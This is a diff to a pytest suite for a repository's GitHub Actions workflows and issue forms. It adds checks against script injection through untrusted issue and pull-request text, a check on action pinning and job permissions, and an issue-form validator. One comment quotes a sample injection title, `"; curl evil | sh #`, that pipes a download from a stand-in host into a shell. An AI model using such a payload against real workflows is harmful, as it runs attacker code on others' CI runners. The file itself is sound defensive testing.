@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -38,7 +39,15 @@ def load(name: str) -> dict:
     return yaml.safe_load((WORKFLOWS / name).read_text())
 
 
-@pytest.mark.parametrize("name", ["pages.yml", "check.yml"])
+ALL_WORKFLOWS = sorted(path.name for path in WORKFLOWS.glob("*.yml"))
+FORMS = REPO / ".github" / "ISSUE_TEMPLATE"
+
+
+def test_the_workflows_are_the_three_we_test():
+    assert ALL_WORKFLOWS == ["check.yml", "extract-article.yml", "pages.yml"]
+
+
+@pytest.mark.parametrize("name", ALL_WORKFLOWS)
 def test_workflows_pass_actionlint(name):
     assert actionlint(WORKFLOWS / name) == []
 
@@ -50,14 +59,176 @@ def test_actionlint_does_find_problems(tmp_path):
     assert [finding["kind"] for finding in actionlint(bad)] == ["expression"]
 
 
-def test_event_issue_form_is_a_valid_github_form_naming_real_fields():
-    form = yaml.safe_load((REPO / ".github" / "ISSUE_TEMPLATE" / "event.yml").read_text())
-    assert {"name", "description", "body"} <= form.keys()
-    ids = [item["id"] for item in form["body"] if "id" in item]
-    assert len(ids) == len(set(ids))
-    for item in form["body"]:
-        assert item["type"] in {"markdown", "input", "textarea", "dropdown", "checkboxes"}
-        assert isinstance(item["attributes"]["value" if item["type"] == "markdown" else "label"], str)
+# Contexts that whoever opens an issue, comments or names a branch writes: in a `run:` line GitHub pastes them
+# into the script before the shell reads it, so a title like `"; curl evil | sh #` would run. They may reach a
+# step only through env:, where the shell sees a variable's value, never its text as code.
+UNTRUSTED = re.compile(r"\bgithub\.(?:head_ref\b|event(?:\.(?:issue|comment|review|review_comment|discussion|"
+                       r"discussion_comment|pages|commits|head_commit|pull_request\.(?:title|body|head\.ref|head\.label))"
+                       r"\b|(?![.\w])))")
+
+
+def untrusted_in_run_lines(workflow: dict) -> list[str]:
+    """Return the `${{ }}` expressions of a workflow's run: (and github-script's script:) that read untrusted text."""
+    found = []
+    for job_name, job in (workflow.get("jobs") or {}).items():
+        for number, step in enumerate(job.get("steps") or []):
+            scripts = [step.get("run") or "", (step.get("with") or {}).get("script") or ""]
+            for expression in re.findall(r"\$\{\{(.*?)\}\}", "\n".join(scripts), flags=re.DOTALL):
+                if UNTRUSTED.search(expression):
+                    found.append(f"{job_name} step {number + 1}: ${{{{{expression}}}}}")
+    return found
+
+
+@pytest.mark.parametrize("name", ALL_WORKFLOWS)
+def test_no_run_line_pastes_untrusted_text_into_a_script(name):
+    assert untrusted_in_run_lines(load(name)) == []
+
+
+@pytest.mark.parametrize("expression, untrusted", [
+    ("github.event.issue.body", True), ("github.event.issue.title", True), ("github.event.issue.number", True),
+    ("github.event.comment.body", True), ("github.event.pull_request.title", True),
+    ("github.event.pull_request.body", True), ("github.event.pull_request.head.ref", True),
+    ("github.head_ref", True), ("toJSON(github.event)", True), ("github.event['issue']['body']", True),
+    ("github.event.review.body", True), ("github.event.head_commit.message", True),
+    ("github.event.repository.name", False), ("github.event.pull_request.number", False),
+    ("steps.pages.outputs.base_url", False), ("github.repository", False), ("github.event_name", False),
+])
+def test_the_untrusted_check_knows_untrusted_contexts(expression, untrusted):
+    workflow = {"jobs": {"x": {"steps": [{"run": f"echo ${{{{ {expression} }}}}"}, {"env": {"A": f"${{{{ {expression} }}}}"}}]}}}
+    assert untrusted_in_run_lines(workflow) == ([f"x step 1: ${{{{ {expression} }}}}"] if untrusted else [])
+    script = {"jobs": {"y": {"steps": [{"uses": "actions/github-script@v8", "with": {"script": f"x = '${{{{{expression}}}}}'"}}]}}}
+    assert bool(untrusted_in_run_lines(script)) == untrusted
+
+
+@pytest.mark.parametrize("name", ALL_WORKFLOWS)
+def test_actions_are_pinned_to_a_major_version(name):
+    uses = [step["uses"] for job in load(name)["jobs"].values() for step in job["steps"] if "uses" in step]
+    assert uses and all(re.fullmatch(r"actions/[\w-]+@v\d+", use) for use in uses), uses
+
+
+def test_extract_workflow_starts_on_the_label_and_writes_only_where_it_must():
+    workflow = load("extract-article.yml")
+    assert workflow[True] == {"issues": {"types": ["labeled"]}}
+    assert workflow["permissions"] == {}
+    draft, publish = workflow["jobs"]["draft"], workflow["jobs"]["publish"]
+    # The job that reads the issue and fetches the article can write nothing, and keeps no token in .git/config.
+    assert draft["permissions"] == {"contents": "read"}
+    assert publish["permissions"] == {"contents": "write", "pull-requests": "write", "issues": "write"}
+    assert publish["needs"] == "draft"
+    assert draft["steps"][0]["name"] == "Check that whoever added the label can write to the repository"
+    checkout = next(step for step in draft["steps"] if step.get("uses", "").startswith("actions/checkout@"))
+    assert checkout["with"] == {"persist-credentials": False}
+    extract = next(step for step in draft["steps"] if step.get("id") == "draft")
+    assert extract["env"] == {"ISSUE_BODY": "${{ github.event.issue.body }}", "ISSUE_NUMBER": "${{ github.event.issue.number }}"}
+    assert "python .github/scripts/extract_issue.py --out \"$RUNNER_TEMP/draft\"" in extract["run"]
+    # In the draft job the token reaches only the access check, not the steps that read the issue and the article.
+    assert "env" not in draft
+    assert [step["name"] for step in draft["steps"] if "GH_TOKEN" in (step.get("env") or {})] == [
+        "Check that whoever added the label can write to the repository"]
+    assert publish["env"]["GH_TOKEN"] == "${{ github.token }}"
+
+
+# GitHub's syntax for issue forms, as its documentation states it ("Syntax for issue forms", "Common validation
+# errors when creating issue forms"): GitHub refuses a form that breaks one of these rules and offers no other.
+FORM_KEYS = {"name", "description", "title", "labels", "assignees", "projects", "type", "body"}
+ELEMENT_ATTRIBUTES = {
+    "markdown": {"value"},
+    "input": {"label", "description", "placeholder", "value"},
+    "textarea": {"label", "description", "placeholder", "value", "render"},
+    "dropdown": {"label", "description", "multiple", "options", "default"},
+    "checkboxes": {"label", "description", "options"},
+}
+
+
+def issue_form_problems(form) -> list[str]:
+    """Return what GitHub's issue-form syntax refuses in a form read from YAML, or []."""
+    if not isinstance(form, dict):
+        return ["the form is not a mapping"]
+    problems = [f"{key!r} is not a top-level key of a form" for key in form if key not in FORM_KEYS]
+    problems += [f"{key!r} must be a non-empty string" for key in ("name", "description", "title")
+                 if (key != "title" or key in form) and not (isinstance(form.get(key), str) and form[key].strip())]
+    labels = form.get("labels", [])
+    if not (isinstance(labels, list) and all(isinstance(label, str) and label.strip() for label in labels)):
+        problems.append("labels must be a list of non-empty strings")
+    body = form.get("body")
+    if not (isinstance(body, list) and body):
+        return problems + ["body must be a non-empty list"]
+    ids, field_labels = [], []
+    for number, element in enumerate(body):
+        problems += [f"body[{number}]: {problem}" for problem in element_problems(element)]
+        if isinstance(element, dict) and element.get("type") != "markdown":
+            ids += [element["id"]] if "id" in element else []
+            field_labels.append((element.get("attributes") or {}).get("label"))
+    if not field_labels:
+        problems.append("body must have at least one element that is not markdown")
+    problems += [f"id {key!r} is used twice" for key in sorted({k for k in ids if ids.count(k) > 1})]
+    problems += [f"label {label!r} is used twice" for label in sorted({x for x in field_labels if field_labels.count(x) > 1})]
+    return problems
+
+
+def element_problems(element) -> list[str]:
+    """Return what GitHub's issue-form syntax refuses in one element of a form's body."""
+    if not isinstance(element, dict) or element.get("type") not in ELEMENT_ATTRIBUTES:
+        return ["type must be one of " + ", ".join(ELEMENT_ATTRIBUTES)]
+    kind, attributes = element["type"], element.get("attributes")
+    allowed_keys = {"type", "attributes"} | (set() if kind == "markdown" else {"id", "validations"})
+    problems = [f"{key!r} is not a key of a {kind} element" for key in element if key not in allowed_keys]
+    if not isinstance(attributes, dict):
+        return problems + ["attributes must be a mapping"]
+    problems += [f"{key!r} is not an attribute of a {kind} element" for key in attributes
+                 if key not in ELEMENT_ATTRIBUTES[kind]]
+    needed = "value" if kind == "markdown" else "label"
+    if not (isinstance(attributes.get(needed), str) and attributes[needed].strip()):
+        problems.append(f"attributes.{needed} must be a non-empty string")
+    if "id" in element and not (isinstance(element["id"], str) and re.fullmatch(r"[A-Za-z0-9_-]+", element["id"])):
+        problems.append(f"id {element['id']!r} may hold only letters, digits, - and _")
+    validations = element.get("validations", {})
+    if not (isinstance(validations, dict) and set(validations) <= {"required"}
+            and all(isinstance(value, bool) for value in validations.values())):
+        problems.append("validations may only say required: true or false")
+    if kind in ("dropdown", "checkboxes"):
+        options = attributes.get("options")
+        if not (isinstance(options, list) and options and len({repr(o) for o in options}) == len(options)):
+            problems.append("options must be a non-empty list without repeats")
+    return problems
+
+
+@pytest.mark.parametrize("name", sorted(path.name for path in FORMS.glob("*.yml")))
+def test_issue_forms_are_valid_github_forms(name):
+    assert issue_form_problems(yaml.safe_load((FORMS / name).read_text())) == []
+
+
+def test_the_issue_forms_are_the_two_we_offer():
+    assert sorted(yaml.safe_load(path.read_text())["name"] for path in FORMS.glob("*.yml")) == [
+        "Suggest an article", "Suggest an event"]
+
+
+@pytest.mark.parametrize("change, problems", [
+    (lambda f: f.update(hello="world"), ["'hello' is not a top-level key of a form"]),
+    (lambda f: f.update(name="  "), ["'name' must be a non-empty string"]),
+    (lambda f: f.pop("description"), ["'description' must be a non-empty string"]),
+    (lambda f: f.update(labels="extract"), ["labels must be a list of non-empty strings"]),
+    (lambda f: f.update(body=[]), ["body must be a non-empty list"]),
+    (lambda f: f.update(body=f["body"][:1]), ["body must have at least one element that is not markdown"]),
+    (lambda f: f["body"][1].update(id="the url"), ["body[1]: id 'the url' may hold only letters, digits, - and _"]),
+    (lambda f: f["body"][2].update(id="url"), ["id 'url' is used twice"]),
+    (lambda f: f["body"][2]["attributes"].update(label="Article address"), ["label 'Article address' is used twice"]),
+    (lambda f: f["body"][1].update(type="text"), ["body[1]: type must be one of markdown, input, textarea, dropdown, checkboxes"]),
+    (lambda f: f["body"][1]["attributes"].pop("label"), ["body[1]: attributes.label must be a non-empty string"]),
+    (lambda f: f["body"][1]["attributes"].update(render="text"), ["body[1]: 'render' is not an attribute of a input element"]),
+    (lambda f: f["body"][0].update(id="intro"), ["body[0]: 'id' is not a key of a markdown element"]),
+    (lambda f: f["body"][1].update(validations={"required": "yes"}), ["body[1]: validations may only say required: true or false"]),
+    (lambda f: f["body"].append({"type": "dropdown", "id": "kind", "attributes": {"label": "Kind", "options": ["a", "a"]}}),
+     ["body[5]: options must be a non-empty list without repeats"]),
+])
+def test_the_issue_form_check_finds_what_github_refuses(change, problems):
+    form = yaml.safe_load((FORMS / "article.yml").read_text())
+    change(form)
+    assert issue_form_problems(form) == problems
+
+
+def test_event_issue_form_names_real_fields():
+    form = yaml.safe_load((FORMS / "event.yml").read_text())
     named = {label.rsplit("(", 1)[1].rstrip(")").split(" → ")[0]
              for item in form["body"] if (label := item["attributes"].get("label", "")).endswith(")")}
     assert named - {"the text of the event page"} == {
